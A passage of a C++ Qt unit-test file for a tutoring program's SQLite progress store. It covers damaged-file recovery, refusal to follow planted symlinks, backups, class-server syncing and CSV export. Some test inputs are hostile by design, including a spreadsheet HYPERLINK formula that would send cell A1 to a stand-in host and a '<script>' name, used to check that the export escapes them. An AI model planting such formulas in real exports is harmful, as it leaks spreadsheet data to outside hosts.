            store.record(ann, answer(Now, tutor::Operation::Addition, 1, 2, u"3"_s, u"3"_s, 5)));
    }
    QVERIFY(runOnFile(path,
        { u"UPDATE schema_version SET version = %1"_s.arg(ProgressStore::schemaVersion() + 1),
            u"CREATE TABLE from_the_future (x INTEGER)"_s }));
    const QByteArray bytes = fileBytes(path);
    const QStringList backups = filesIn(folder.filePath(u"backups"_s));

    {
        ProgressStore store(path);
        const OpenResult opened = store.open(Now.addDays(1));
        QCOMPARE(opened.outcome, OpenResult::NewerVersion);
        QVERIFY2(opened.reason.contains(QDir::toNativeSeparators(path)), qPrintable(opened.reason));
        QVERIFY(opened.reason.contains(u"newer version"_s));
        QVERIFY(store.isOpen());
        QVERIFY(!store.isWritable());
        // Shown as it is...
        QCOMPARE(names(store.pupils()), QStringList { u"Ann"_s });
        const qint64 ann = store.pupils().first().id;
        QCOMPARE(store.attempts(ann).size(), 1);
        QCOMPARE(store.classOverview().first().all.answers, 1);
        QBuffer csv;
        csv.open(QIODevice::WriteOnly);
        QVERIFY(store.exportCsv(csv));
        // ...but nothing is added, renamed or removed.
        QVERIFY(
            !store.record(ann, answer(Now, tutor::Operation::Addition, 1, 2, u"3"_s, u"3"_s, 5)));
        QVERIFY(!store.lastError().isEmpty());
        QVERIFY(!store.addPupil(u"Bob"_s));
        QVERIFY(!store.renamePupil(ann, u"Anna"_s));
        QVERIFY(!store.deletePupil(ann));
        const tutor::FactCard card
            = answered(newCard(tutor::Operation::Addition, 1, 2), true, true, Now.date());
        QVERIFY(!store.record(ann, factAnswer(card, true, Now), card));
        QVERIFY(!store.setQuickSeconds(5));
        QCOMPARE(store.quickSeconds(), ProgressStore::DefaultQuickSeconds);
    }
    QCOMPARE(fileBytes(path), bytes);
    QCOMPARE(filesIn(folder.filePath(u"backups"_s)), backups);
    QCOMPARE(versionOf(path), ProgressStore::schemaVersion() + 1);
}

// Answers of pupils the class server knows wait in the file until the
// server has them, oldest first, each with its own id, the computer it was
// given on and the quick-answer time then in force.
void ProgressStoreTest::answersWaitForTheClassServerUntilMarkedSent()
{
    QTemporaryDir folder;
    const QString path = folder.filePath(u"progress.sqlite"_s);
    QVERIFY(runOnFile(path, VersionThree));
    ProgressStore store(path);
    QCOMPARE(store.open(Now).outcome, OpenResult::Opened);
    const qint64 ann = store.pupils().first().id;
    const QUuid annOnServer = QUuid::createUuid();
    QVERIFY(store.setServerId(ann, annOnServer));
    const std::optional<qint64> bee = store.addPupil(u"Bee"_s);
    QVERIFY(bee);
    const auto sum = [](int minutes) {
        return answer(Now.addSecs(60 * minutes), tutor::Operation::Addition, 2, minutes,
            QString::number(2 + minutes), QString::number(2 + minutes), 1500);
    };
    QVERIFY(store.record(ann, sum(1)));
    QVERIFY(store.record(*bee, sum(2))); // not on the server's roster: stays here
    QVERIFY(store.setQuickSeconds(5));
    QVERIFY(store.record(ann, sum(3)));

    progress::AnswerOutbox outbox(path);
    QVERIFY2(outbox.open(), qPrintable(outbox.lastError()));
    QCOMPARE(outbox.waiting(), 3);
    const QList<progress::OutgoingAnswer> first = outbox.next(2).value();
    QCOMPARE(first.size(), 2);
    QVERIFY(sameAttempt(first.at(1).attempt, sum(1)));
    // The answer kept before answers had ids got one, and the time set now.
    QCOMPARE(first.at(0).quickSeconds, 5);
    QCOMPARE(first.at(1).quickSeconds, ProgressStore::DefaultQuickSeconds);
    QVERIFY(!first.at(0).answerId.isNull());
    QVERIFY(first.at(0).answerId != first.at(1).answerId);
    for (const progress::OutgoingAnswer &sent : first) {
        QCOMPARE(sent.pupilId, annOnServer);
        QCOMPARE(sent.computerId, progress::thisComputerId());
    }
    QVERIFY(outbox.markSent(first));
    QCOMPARE(outbox.waiting(), 1);
    const QList<progress::OutgoingAnswer> rest = outbox.next(500).value();
    QCOMPARE(rest.size(), 1);
    QVERIFY(sameAttempt(rest.first().attempt, sum(3)));
    QCOMPARE(rest.first().quickSeconds, 5);
    outbox.close();

    // Nothing is sent from a file of a newer version, nor from no file.
    QVERIFY(runOnFile(path,
        { u"UPDATE schema_version SET version = %1"_s.arg(ProgressStore::schemaVersion() + 1) }));
    QVERIFY(!outbox.open());
    QVERIFY(!progress::AnswerOutbox(folder.filePath(u"none.sqlite"_s)).open());
    QVERIFY(!QFile::exists(folder.filePath(u"none.sqlite"_s)));
}

// The class server's roster: pupils found by the server's id, by name or
// added; renamed as the server names them; erased with their answers.
void ProgressStoreTest::rosterFromTheClassServerFindsNamesAndErases()
{
    QTemporaryDir folder;
    ProgressStore store(folder.filePath(u"progress.sqlite"_s));
    QCOMPARE(store.open(Now).outcome, OpenResult::Created);
    const qint64 ann = store.addPupil(u"ann lee"_s).value(); // this computer's own
    const qint64 cy = store.addPupil(u"Cy"_s).value();
    const qint64 dot = store.addPupil(u"Dot"_s).value();
    const QUuid annId = QUuid::createUuid(), cyId = QUuid::createUuid(),
                dotId = QUuid::createUuid(), tomId = QUuid::createUuid(),
                otherTomId = QUuid::createUuid();
    QVERIFY(store.setServerId(cy, cyId));
    QVERIFY(store.setServerId(dot, dotId));
    QVERIFY(store.record(dot, answer(Now, tutor::Operation::Addition, 1, 1, u"2"_s, u"2"_s, 900)));
    const QList<progress::RosterPupil> roster { { annId, u"Ann Lee"_s, u"3A"_s },
        { cyId, u"Cyrus"_s, u"3A"_s }, { tomId, u"Tom Li"_s, u"3A"_s },
        { otherTomId, u"Tom Li"_s, u"4B"_s } };
    QVERIFY2(store.takeRoster(roster, { dotId }), qPrintable(store.lastError()));
    QCOMPARE(names(store.pupils()),
        (QStringList { u"Ann Lee"_s, u"Cyrus"_s, u"Tom Li"_s, u"Tom Li (4B)"_s }));
    QCOMPARE(store.pupilOnServer(annId), ann);
    QCOMPARE(store.pupilOnServer(cyId), cy);
    QVERIFY(!store.pupilOnServer(dotId));
    QCOMPARE(store.attemptCount(), 0);
    // Taken again, nothing changes.
    QVERIFY(store.takeRoster(roster, { dotId }));
    QCOMPARE(store.pupils().size(), 4);
}

// A pupil who moves to a second computer gets their answers there and the
// same My Facts schedule, whatever quick-answer time each computer has.
void ProgressStoreTest::pupilAtASecondComputerGetsTheSameSchedule()
{
    QTemporaryDir folder;
    ProgressStore first(folder.filePath(u"first.sqlite"_s));
    ProgressStore second(folder.filePath(u"second.sqlite"_s));
    QCOMPARE(first.open(Now).outcome, OpenResult::Created);
    QCOMPARE(second.open(Now).outcome, OpenResult::Created);
    const QUuid annId = QUuid::createUuid();
    const qint64 ann = first.addPupil(u"Ann"_s).value();
    QVERIFY(first.setServerId(ann, annId));
    QVERIFY(second.setQuickSeconds(9));
    // Days of My Facts at the first computer, a miss in practice between,
    // and the teacher's quick-answer time changed on the third day.
    const tutor::FactCard sixSeven = newCard(tutor::Operation::Multiplication, 6, 7);
    const tutor::FactCard twoThree = newCard(tutor::Operation::Addition, 2, 3);
    for (int day = 0; day < 5; ++day) {
        if (day == 2)
            QVERIFY(first.setQuickSeconds(1));
        const QDateTime at = Now.addDays(day - 6);
        for (const auto &card : { sixSeven, twoThree }) {
            tutor::Attempt given = factAnswer(card, day != 1, at.addSecs(60 * day));
            given.mode = tutor::AnswerMode::MyFacts;
            const bool quick = given.millis < qint64(first.quickSeconds()) * 1000;
            QVERIFY(first.record(
                ann, given, progress::CardMove { card.family, quick, at.toLocalTime().date() }));
        }
        QVERIFY(first.record(ann, factAnswer(sixSeven, false, at.addSecs(3600)),
            progress::CardMove { sixSeven.family, false, at.toLocalTime().date(), false }));
    }
    progress::AnswerOutbox outbox(first.filePath());
    QVERIFY(outbox.open());
    QList<progress::ServerAnswer> fromServer;
    const QList<progress::OutgoingAnswer> given = outbox.next(500).value();
    for (const progress::OutgoingAnswer &sent : given)
        fromServer.append({ sent.answerId, sent.computerId, sent.quickSeconds, sent.attempt });
    outbox.close();

    QVERIFY(second.takeRoster({ { annId, u"Ann"_s, u"3A"_s } }, {}));
    const qint64 there = second.pupilOnServer(annId).value();
    QVERIFY2(second.takeHistory(there, fromServer), qPrintable(second.lastError()));
    QVERIFY(second.takeHistory(there, fromServer)); // again: nothing added twice
    QCOMPARE(second.attempts(there).size(), first.attempts(ann).size());
    const QList<tutor::FactCard> here = first.factCards(ann), moved = second.factCards(there);
    QCOMPARE(moved.size(), 2);
    QCOMPARE(here.size(), moved.size());
    for (qsizetype index = 0; index < here.size(); ++index)
        QVERIFY(sameCard(here.at(index), moved.at(index)));
    // What came from the server is not sent back.
    progress::AnswerOutbox secondOutbox(second.filePath());
    QVERIFY(secondOutbox.open());
    QCOMPARE(secondOutbox.waiting(), 0);
}

void ProgressStoreTest::damagedFileIsMovedAsideAndAFreshOneStarted_data()
{
    QTest::addColumn<QString>("part"); // the file itself, or a journal by its suffix
    // Where garbage starts: -1 the whole part, below that so many bytes
    // before its end; with a length of 0, a link is planted at the part.
    QTest::addColumn<qint64>("from");
    QTest::addColumn<qint64>("length");
    QTest::addColumn<bool>("movedAside");
    // Found by the full check that runs after the start, away from the
    // window: the answers given meanwhile are kept all the same.
    QTest::addColumn<bool>("foundLater");
    QTest::newRow("garbage over the whole file") << QString() << -1LL << 0LL << true << false;
    QTest::newRow("garbage over the header") << QString() << 0LL << 100LL << true << false;
    QTest::newRow("garbage over pages in the middle")
        << QString() << 3LL * 4096 << 4LL * 4096 << true << false;
    QTest::newRow("garbage over pages in the middle, found after the start")
        << QString() << 3LL * 4096 << 4LL * 4096 << true << true;
    // SQLite would stop at the broken frame and drop every answer after it.
    QTest::newRow("a byte flipped in an early frame of the journal")
        << u"-wal"_s << WalHeader + 2 * WalFrame + 24 + 100 << 1LL << true << false;
    QTest::newRow("the same, at a start that checks later")
        << u"-wal"_s << WalHeader + 2 * WalFrame + 24 + 100 << 1LL << true << true;
    QTest::newRow("garbage over the journal's salts") << u"-wal"_s << 16LL << 16LL << true << false;
    // A transaction a crash cut short was never shown as kept.
    QTest::newRow("the last answer cut short in the journal")
        << u"-wal"_s << -100LL << 50LL << false << false;
    QTest::newRow("a link planted at the journal's index")
        << u"-shm"_s << 0LL << 0LL << true << false;
}

void ProgressStoreTest::damagedFileIsMovedAsideAndAFreshOneStarted()
{
    QFETCH(QString, part);
    QFETCH(qint64, from);
    QFETCH(qint64, length);
    QFETCH(bool, movedAside);
    QFETCH(bool, foundLater);
    QTemporaryDir folder;
    const QString path = folder.filePath(u"progress.sqlite"_s);
    qint64 kept = 3000;
    {
        ProgressStore store(path);
        store.open(Now);
        const qint64 ann = *store.addPupil(u"Ann"_s);
        QVERIFY(store.recordMany(ann, someAnswers(5, 3000)));
    }
    if (!part.isEmpty()) {
        // Answers kept one by one stand in the journal until the file is
        // closed: the file and its journal are copied as a crash leaves them.
        const QString live = folder.filePath(u"live"_s);
        QVERIFY(QDir().mkpath(live));
        QVERIFY(QFile::rename(path, live + u"/progress.sqlite"_s));
        ProgressStore store(live + u"/progress.sqlite"_s);
        QCOMPARE(store.open(Now).outcome, OpenResult::Opened);
        const qint64 ann = store.pupils().first().id;
        for (const tutor::Attempt &attempt : someAnswers(6, 20))
            QVERIFY(store.record(ann, attempt));
        kept += 20;
        for (const QString &copied : { QString(), u"-wal"_s })
            QVERIFY(QFile::copy(live + u"/progress.sqlite"_s + copied, path + copied));
        QVERIFY(QFileInfo(path + u"-wal"_s).size() > WalHeader + 20 * WalFrame);
    }
    const QString damagedPart = path + part;
    const QString elsewhere = folder.filePath(u"elsewhere"_s);
    const bool planted = length == 0 && from == 0;
    if (planted) {
        QVERIFY(QFile::link(elsewhere, damagedPart));
    } else {
        QFile file(damagedPart);
        QVERIFY(file.open(QIODevice::ReadWrite));
        if (from == -1) {
            from = 0;
            length = file.size();
        } else if (from < 0) {
            from += file.size();
        }
        QVERIFY(file.size() >= from + length);
        file.seek(from);
        QByteArray garbage = file.read(length);
        for (qint64 at = 0; at < length; ++at)
            garbage[at] = char(garbage.at(at) ^ char(at * 37 + 11));
        file.seek(from);
        QCOMPARE(file.write(garbage), length);
    }
    const QByteArray damaged = fileBytes(path);
    const QByteArray damagedJournal = fileBytes(path + u"-wal"_s);

    const QDateTime when(QDate(2026, 12, 9), QTime(13, 30, 5), Qt::UTC); // 08:30:05 here
    ProgressStore store(path);
    OpenResult opened = store.open(when, foundLater ? Checks::Later : Checks::Now);
    const bool journalDamage = part == u"-wal"_s;
    if (foundLater && !journalDamage) {
        // The window goes on with what it can read; two answers are given.
        QCOMPARE(opened.outcome, OpenResult::Opened);
        const std::optional<qint64> ann = store.addPupil(u"Ann"_s);
        QVERIFY(ann);
        for (const QString &typed : { u"3"_s, u"4"_s })
            QVERIFY2(store.record(
                         *ann, answer(when, tutor::Operation::Addition, 1, 2, typed, u"3"_s, 5)),
                qPrintable(store.lastError()));
        const ProgressStore::DayCheck check
            = ProgressStore::checkAndBackUp(path, when, store.generation());
        QVERIFY(check.damaged);
        QVERIFY(check.backupFailure.isEmpty());
        opened = store.takeDayCheck(check, when);
    }
    if (!movedAside) {
        QCOMPARE(opened.outcome, OpenResult::Opened);
        QCOMPARE(store.attemptCount(), kept - 1);
        QVERIFY(store.integrityOk());
        return;
    }
    QCOMPARE(opened.outcome, OpenResult::DamagedMovedAside);
    const QString aside = folder.filePath(u"progress-damaged-2026-12-09T083005.sqlite"_s);
    QCOMPARE(opened.movedAsideTo, aside);
    // Whole, journals and all: what SQLite would have dropped is still there.
    QCOMPARE(fileBytes(aside), damaged);
    if (!foundLater || journalDamage)
        QCOMPARE(fileBytes(aside + u"-wal"_s), damagedJournal);
    QCOMPARE(QFileInfo(aside + part).isSymLink(), planted);
    QVERIFY(!QFileInfo::exists(elsewhere));
    QVERIFY2(opened.reason.contains(QDir::toNativeSeparators(aside)), qPrintable(opened.reason));
    QVERIFY2(opened.reason.contains(QDir::toNativeSeparators(damagedPart)) || part.isEmpty(),
        qPrintable(opened.reason));
    QVERIFY(store.isWritable());
    QVERIFY(store.rescueAnswers());
    if (foundLater && !journalDamage) {
        QCOMPARE(names(store.pupils()), QStringList { u"Ann"_s });
        QCOMPARE(store.attempts(store.pupils().first().id).size(), 2);
        return;
    }
    QCOMPARE(store.pupils().size(), 0);
    QVERIFY(store.record(*store.addPupil(u"Ann"_s),
        answer(when, tutor::Operation::Addition, 1, 2, u"3"_s, u"3"_s, 5)));
    QVERIFY(store.integrityOk());
}

void ProgressStoreTest::unusableFolderKeepsNothingAndSaysWhere_data()
{
    QTest::addColumn<QString>("blocked");
    QTest::addColumn<QString>("named"); // the folder, or the file with this suffix
    QTest::newRow("a file where the folder should be") << u"file for folder"_s << u"folder"_s;
    QTest::newRow("read-only folder") << u"read-only"_s << u"folder"_s;
    QTest::newRow("read-only file") << u"read-only"_s << QString();
    // Links are never followed, whoever planted them: the program's tables
    // would land in whatever database, or private file, they lead to.
    QTest::newRow("a link at the file") << u"link"_s << QString();
    QTest::newRow("a link at the journal") << u"link"_s << u"-wal"_s;
    QTest::newRow("a link at the rollback journal") << u"link"_s << u"-journal"_s;
    QTest::newRow("a folder at the journal") << u"folder"_s << u"-wal"_s;
    QTest::newRow("a second name for the file") << u"hard link"_s << QString();
    QTest::newRow("a folder of another user") << u"owner"_s << u"folder"_s;
    QTest::newRow("a file of another user") << u"owner"_s << QString();
}

void ProgressStoreTest::unusableFolderKeepsNothingAndSaysWhere()
{
    QFETCH(QString, blocked);
    QFETCH(QString, named);
    QTemporaryDir root;
    const QString folder = root.filePath(u"data"_s);
    const QString path = QDir(folder).filePath(u"progress.sqlite"_s);
    const QString locked = named == u"folder"_s ? folder : path + named;
    // Another program's database, or a private file of the user's.
    const QString other = root.filePath(u"other.sqlite"_s);
    QVERIFY(runOnFile(other, { u"CREATE TABLE theirs (x INTEGER)"_s }));
    const QByteArray otherBytes = fileBytes(other);
    if (blocked == u"file for folder"_s) {
        QFile file(folder);
        QVERIFY(file.open(QIODevice::WriteOnly));
    } else {
        QVERIFY(QDir().mkpath(folder));
        if (locked != folder)
            QVERIFY(ProgressStore(path).open(Now).outcome == OpenResult::Created);
    }
    if (blocked == u"read-only"_s) {
        QVERIFY(QFile::setPermissions(locked, QFile::ReadOwner | QFile::ExeOwner));
        QFile probe(locked == path ? path : QDir(folder).filePath(u"probe"_s));
        if (probe.open(QIODevice::WriteOnly | QIODevice::Append)) {
            QFile::setPermissions(locked, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
            QSKIP("permissions do not stop this user (root) from writing");
        }
    } else if (blocked == u"link"_s) {
        QFile::remove(locked);
        QVERIFY(QFile::link(other, locked));
    } else if (blocked == u"folder"_s && locked != folder) {
        QVERIFY(QDir().mkpath(locked));
    } else if (blocked == u"hard link"_s) {
        QVERIFY(::link(QFile::encodeName(path).constData(),
                    QFile::encodeName(root.filePath(u"second name"_s)).constData())
            == 0);
    } else if (blocked == u"owner"_s) {
        if (geteuid() != 0 || ::chown(QFile::encodeName(locked).constData(), 65534, 65534) != 0)
            QSKIP("only root can give a file to another user");
    }
    const QByteArray before = QFileInfo(locked).isSymLink() ? QByteArray() : fileBytes(locked);

    ProgressStore store(path);
    const OpenResult opened = store.open(Now);
    if (blocked == u"read-only"_s)
        QFile::setPermissions(locked, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    QCOMPARE(opened.outcome, OpenResult::Unavailable);
    QVERIFY2(opened.reason.contains(QDir::toNativeSeparators(locked)), qPrintable(opened.reason));
    QVERIFY2(!opened.reason.contains(u"()"_s), qPrintable(opened.reason));
    QVERIFY(!store.isOpen());
    QVERIFY(!store.isWritable());
    QVERIFY(!store.addPupil(u"Ann"_s));
    QVERIFY(!store.record(1, answer(Now, tutor::Operation::Addition, 1, 2, u"3"_s, u"3"_s, 5)));
    QVERIFY(!store.lastError().isEmpty());
    QCOMPARE(store.pupils().size(), 0);
    QCOMPARE(store.classOverview().size(), 0);
    QCOMPARE(store.attemptCount(), 0);
    // What was found is left as it was, and nothing went through a link.
    QCOMPARE(fileBytes(other), otherBytes);
    if (!before.isEmpty())
        QCOMPARE(fileBytes(locked), before);
}

// A full disk cannot be had on demand: the test runs itself again as a child
// whose file size limit (RLIMIT_FSIZE) fails every write past it as a full
// disk would.
void ProgressStoreTest::fullDiskFailsTheAnswerWholeAndKeepsTheRest()
{
    QTemporaryDir folder;
    const QString path = folder.filePath(u"progress.sqlite"_s);
    {
        ProgressStore store(path); // and the day's backup, so the child makes none
        store.open(Now);
        QVERIFY(store.addPupil(u"Ann"_s));
    }
    const qint64 limit = QFileInfo(path).size() + 64 * 1024;

    QProcess child;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert(QString::fromLatin1(FullDiskVariable), path);
    child.setProcessEnvironment(environment);
    // The store itself must keep a write past the limit from killing it.
    child.setChildProcessModifier([limit] {
        std::signal(SIGXFSZ, SIG_DFL);
        const rlimit fileLimit { rlim_t(limit), rlim_t(limit) };
        setrlimit(RLIMIT_FSIZE, &fileLimit);
    });
    child.start(QCoreApplication::applicationFilePath(), QStringList());
    QVERIFY(child.waitForFinished(60000));
    const QByteArray errors = child.readAllStandardError();
    QCOMPARE(child.exitStatus(), QProcess::NormalExit);
    QVERIFY2(child.exitCode() == 0, errors.constData());
    const QStringList said = QString::fromUtf8(child.readAllStandardOutput()).split(u'\n');
    QCOMPARE(said.size(), 4);
    const int kept = said.at(0).toInt();
    QVERIFY2(kept > 0 && kept < 20000, qPrintable(said.join(u" / "_s)));
    QCOMPARE(said.at(1), u"failed again"_s);
    QVERIFY2(said.at(2).contains(QDir::toNativeSeparators(path)), qPrintable(said.at(2)));

    // Every answer told as kept is there, and nothing of the one that failed.
    ProgressStore store(path);
    QCOMPARE(store.open(Now).outcome, OpenResult::Opened);
    QVERIFY(store.integrityOk());
    QCOMPARE(store.attemptCount(), kept);
    QCOMPARE(store.classOverview().first().all.answers, kept);
    // The card counts the My Facts answers kept, not the one that failed.
    QCOMPARE(store.factCards(store.pupils().value(0).id).value(0).answers, kept / 2);
}

void ProgressStoreTest::backupIsMadeOnceADayAndOldOnesPruned_data()
{
    QTest::addColumn<int>("aheadDays"); // days answered first with the clock years ahead
    QTest::addColumn<int>("days"); // days answered then, the last one Now
    QTest::addColumn<QString>("planted"); // by another user before the last day
    QTest::addColumn<QStringList>("kept");
    // The check and the backup made on a connection of their own, after the
    // start has gone on and the first answer was kept.
    QTest::addColumn<bool>("later");

    QTest::newRow("forty days")
        << 0 << 40 << QString()
        << QStringList { u"progress-2026-12-03.sqlite"_s, u"progress-2026-12-04.sqlite"_s,
               u"progress-2026-12-05.sqlite"_s, u"progress-2026-12-06.sqlite"_s,
               u"progress-2026-12-07.sqlite"_s, u"progress-2026-12-08.sqlite"_s,
               u"progress-2026-12-09.sqlite"_s, u"progress-2026-W47.sqlite"_s,
               u"progress-2026-W48.sqlite"_s, u"progress-2026-W49.sqlite"_s,
               u"progress-2026-W50.sqlite"_s }
        << false;
    // The copies named 2031 hold older answers than every copy made since.
    QTest::newRow("a clock once set years ahead")
        << 8 << 20 << QString()
        << QStringList { u"progress-2026-12-03.sqlite"_s, u"progress-2026-12-04.sqlite"_s,
               u"progress-2026-12-05.sqlite"_s, u"progress-2026-12-06.sqlite"_s,
               u"progress-2026-12-07.sqlite"_s, u"progress-2026-12-08.sqlite"_s,
               u"progress-2026-12-09.sqlite"_s, u"progress-2026-W47.sqlite"_s,
               u"progress-2026-W48.sqlite"_s, u"progress-2026-W49.sqlite"_s,
               u"progress-2026-W50.sqlite"_s }
        << false;
    // A link under a copy's name is replaced, never written through.
    const QStringList threeDays { u"progress-2026-12-07.sqlite"_s, u"progress-2026-12-08.sqlite"_s,
        u"progress-2026-12-09.sqlite"_s, u"progress-2026-W50.sqlite"_s };
    QTest::newRow("a link at the day's copy")
        << 0 << 3 << u"progress-2026-12-09.sqlite"_s << threeDays << false;
    QTest::newRow("a link at the week's copy")
        << 0 << 3 << u"progress-2026-W50.sqlite"_s << threeDays << false;
    QTest::newRow("three days, checked away from the window")
        << 0 << 3 << QString() << threeDays << true;
    // A link in the folder's place is not followed: no copy is made.
    QTest::newRow("a link at the backups folder") << 0 << 3 << u"."_s << QStringList() << false;
    QTest::newRow("the same, checked away from the window")
        << 0 << 3 << u"."_s << QStringList() << true;
}

void ProgressStoreTest::backupIsMadeOnceADayAndOldOnesPruned()
{
    QFETCH(int, aheadDays);
    QFETCH(int, days);
    QFETCH(QString, planted);
    QFETCH(QStringList, kept);
    QFETCH(bool, later);
    QTemporaryDir root;
    // Made by the store, as the program makes its data folder.
    const QString folder = root.filePath(u"data"_s);
    const QString path = QDir(folder).filePath(u"progress.sqlite"_s);
    const QString backups = QDir(folder).filePath(u"backups"_s);
    const QString elsewhere = root.filePath(u"elsewhere"_s);
    QVERIFY(QDir().mkpath(elsewhere));
    QFile secret(root.filePath(u"secret"_s));
    QVERIFY(secret.open(QIODevice::WriteOnly));
    secret.write("the user's own");
    secret.close();

    QList<QDateTime> starts;
    for (int day = 0; day < aheadDays; ++day)
        starts << QDateTime(QDate(2031, 1, 1).addDays(day), QTime(8, 0), Qt::UTC);
    for (int day = days - 1; day >= 0; --day)
        starts << Now.addDays(-day);
    OpenResult last;
    // Opened twice a day, with an answer kept each time.
    for (const QDateTime &start : std::as_const(starts)) {
        if (start == Now && planted == u"."_s) {
            QVERIFY(QDir(backups).removeRecursively());
            QVERIFY(QFile::link(elsewhere, backups));
        } else if (start == Now && !planted.isEmpty()) {
            QFile::remove(QDir(backups).filePath(planted));
            QVERIFY(QFile::link(secret.fileName(), QDir(backups).filePath(planted)));
        }
        for (int time = 0; time < 2; ++time) {
            ProgressStore store(path);
            const QDateTime now = start.addSecs(time * 3600);
            last = store.open(now, later ? Checks::Later : Checks::Now);
            QVERIFY(last.outcome != OpenResult::Unavailable);
            const qint64 pupil = *store.addPupil(u"Ann"_s);
            QVERIFY(store.record(
                pupil, answer(now, tutor::Operation::Addition, 1, 2, u"3"_s, u"3"_s, 5)));
            if (later) {
                QVERIFY(store.awaitsDayCheck());
                last = store.takeDayCheck(
                    ProgressStore::checkAndBackUp(path, now, store.generation()), now);
                QCOMPARE(last.outcome, OpenResult::Opened);
            }
            // Only the user may read the file and its journals, whatever the umask.
            for (const QString &part : { QString(), u"-wal"_s, u"-shm"_s })
                QCOMPARE(modeOf(path + part), 0600);
        }
        if (start == Now.addDays(-1)) // a copy cut off by a crash
            QVERIFY(QFile(QDir(backups).filePath(u"progress-2026-12-09.sqlite.partial"_s))
                        .open(QIODevice::WriteOnly));
    }
    QCOMPARE(modeOf(folder), 0700);
    QCOMPARE(fileBytes(secret.fileName()), QByteArray("the user's own"));
    QVERIFY(filesIn(elsewhere).isEmpty());
    if (kept.isEmpty()) {
        QVERIFY(QFileInfo(backups).isSymLink());
        QVERIFY2(last.backupFailure.contains(QDir::toNativeSeparators(backups)),
            qPrintable(last.backupFailure));
        return;
    }
    QVERIFY2(last.backupFailure.isEmpty(), qPrintable(last.backupFailure));
    QCOMPARE(filesIn(backups), kept);
    QCOMPARE(modeOf(backups), 0700);
    for (const QString &copy : kept)
        QCOMPARE(modeOf(QDir(backups).filePath(copy)), 0600);

    // A backup is the file as it was at the day's first start, or at its
    // check: a whole database, to be opened as it is.
    const QString copy = root.filePath(u"copy.sqlite"_s);
    QVERIFY(QFile::copy(QDir(backups).filePath(u"progress-2026-12-09.sqlite"_s), copy));
    ProgressStore restored(copy);
    QCOMPARE(restored.open(Now).outcome, OpenResult::Opened);
    QCOMPARE(restored.attemptCount(), 2 * (starts.size() - 1) + (later ? 1 : 0));
    QVERIFY(restored.integrityOk());
}

void ProgressStoreTest::csvFieldsAreSafeAndInOneFixedForm_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QByteArray>("field");
    QTest::newRow("link formula") << u"=HYPERLINK(\"http://x\"&A1,\"click\")"_s
                                  << QByteArray(
                                         "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\"");
    QTest::newRow("plus") << u"+1"_s << QByteArray("'+1");
    QTest::newRow("minus") << u"-1"_s << QByteArray("'-1");
    QTest::newRow("at") << u"@SUM(A1)"_s << QByteArray("'@SUM(A1)");
    QTest::newRow("tab first") << u"\t=1"_s << QByteArray("'\t=1");
    QTest::newRow("carriage return first") << u"\r=1"_s << QByteArray("\"'\r=1\"");
    QTest::newRow("signs inside only") << u"a=b-c+d@e"_s << QByteArray("a=b-c+d@e");
    QTest::newRow("hundredths") << QString::fromLatin1(progress::csvSeconds(50))
                                << QByteArray("0.05");
    QTest::newRow("time west of UTC, half hours")
        << QString::fromLatin1(progress::csvLocalTime(Now.toMSecsSinceEpoch(), -9000))
        << QByteArray("2026-12-09T06:00:00.000-02:30");
}

// Every field of the export, headings, names, typed answers and figures,
// goes through the one rule.
void ProgressStoreTest::csvFieldsAreSafeAndInOneFixedForm()
{
    QFETCH(QString, text);
    QFETCH(QByteArray, field);
    QCOMPARE(progress::csvField(text), field);
}

void ProgressStoreTest::csvTimeIsLocalWithTheOffsetOfItsMoment_data()
{
    QTest::addColumn<QStringList>("utc"); // answers in the order exported
    QTest::addColumn<QByteArrayList>("local"); // in central Europe
    QTest::newRow("summer time starts mid-export")
        << QStringList { u"2026-03-28T12:00:00.000Z"_s, u"2026-03-29T00:59:59.999Z"_s,
               u"2026-03-29T01:00:00.000Z"_s, u"2026-03-30T07:00:00.000Z"_s }
        << QByteArrayList { "2026-03-28T13:00:00.000+01:00", "2026-03-29T01:59:59.999+01:00",
               "2026-03-29T03:00:00.000+02:00", "2026-03-30T09:00:00.000+02:00" };
    QTest::newRow("summer time ends mid-export")
        << QStringList { u"2026-10-25T00:30:00.000Z"_s, u"2026-10-25T01:30:00.000Z"_s,
               u"2026-10-25T23:30:00.000Z"_s }
        << QByteArrayList { "2026-10-25T02:30:00.000+02:00", "2026-10-25T02:30:00.000+01:00",
               "2026-10-26T00:30:00.000+01:00" };
}

void ProgressStoreTest::csvTimeIsLocalWithTheOffsetOfItsMoment()
{
    QFETCH(QStringList, utc);
    QFETCH(QByteArrayList, local);
    qputenv("TZ", "CET-1CEST,M3.5.0,M10.5.0/3");
    tzset();
    const auto sameZoneAsMain = qScopeGuard([] {
        qputenv("TZ", "XST5");
        tzset();
    });
    progress::LocalTimes times;
    QByteArrayList written;
    for (const QString &moment : utc) {
        QByteArray line;
        times.append(line, QDateTime::fromString(moment, Qt::ISODateWithMs).toMSecsSinceEpoch());
        written << line;
    }
    QCOMPARE(written, local);
}

void ProgressStoreTest::csvHoldsEveryAnswerExactly()
{
    QTemporaryDir folder;
    ProgressStore store(folder.filePath(u"progress.sqlite"_s));
    store.open(Now);
    const qint64 zed = *store.addPupil(u"Zed"_s);
    const qint64 ann = *store.addPupil(u"Ann \"Bee\", Jr.\nsecond line"_s);
    const qint64 rtl = *store.addPupil(u"<script>\u200Fנועה"_s);
    const qint64 link = *store.addPupil(u"=HYPERLINK(\"http://x\"&A1,\"click\")"_s);
    const qint64 jurgen = *store.addPupil(u"Jürgen"_s);
    QVERIFY(
        store.record(zed, answer(Now, tutor::Operation::Division, 12, 4, u"3"_s, u"3"_s, 1500)));
    // My Facts asks whatever level is set: the level is left out.
    QVERIFY(store.record(zed,
        answer(Now.addSecs(-30), tutor::Operation::Multiplication, 7, 8, u"54"_s, u"56"_s, 3200,
            tutor::AnswerMode::MyFacts)));
    tutor::Attempt trial = answer(Now.addSecs(-90), tutor::Operation::Subtraction, 0.5, 12.25,
        u"1,5"_s, u"-11.75"_s, 20, tutor::AnswerMode::TimeTrial);
    trial.level = tutor::Level::Expert;
    QVERIFY(store.record(ann, trial));
    QVERIFY(store.record(ann,
        answer(Now.addSecs(-3600), tutor::Operation::Addition, 2, 3, u"x"_s, u"+"_s, 4000,
            tutor::AnswerMode::MissingOperation)));
